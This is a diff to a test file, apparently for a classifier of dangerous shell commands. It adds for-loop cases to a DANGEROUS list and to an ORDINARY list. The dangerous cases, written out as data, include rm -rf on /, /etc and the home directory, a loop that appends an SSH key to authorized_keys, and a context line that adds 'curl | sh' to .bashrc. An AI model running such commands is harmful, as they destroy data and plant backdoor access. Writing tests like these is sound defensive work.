@@ -87,6 +87,11 @@ DANGEROUS = [
     ("sed -i '$a curl -s x | sh' ~/.bashrc", {}),
     ("sed -i.bak -e '1i evil' ~/.profile", {}),
     ("perl -pi -e 's/^/evil /' ~/.bashrc", {}),
+    ('for d in build /; do rm -rf "$d"; done', {}),
+    ("for d in build ..; do rm -rf $d; done", {}),
+    ("for d in /tmp/a /etc; do rm -rf $d; done", {}),
+    ("for d in $(ls ~); do rm -rf $d; done", {}),
+    ("for d in ~/.ssh; do echo k >> $d/authorized_keys; done", {}),
 ]
 
 ORDINARY = [
@@ -115,6 +120,9 @@ ORDINARY = [
     ("git -C a -C b status", {}),
     ("sed -i 's/foo/bar/g' src/app.py", {}),
     ("rm -rf $T", {"T": "build/* dist"}),
+    ('for f in *.tmp; do rm -rf "$f"; done', {}),
+    ('for d in build dist .cache; do rm -rf "$d"; done', {}),
+    ("for d in /var/tmp/a /var/tmp/b; do rm -rf $d; done", {}),
 ]
 
 
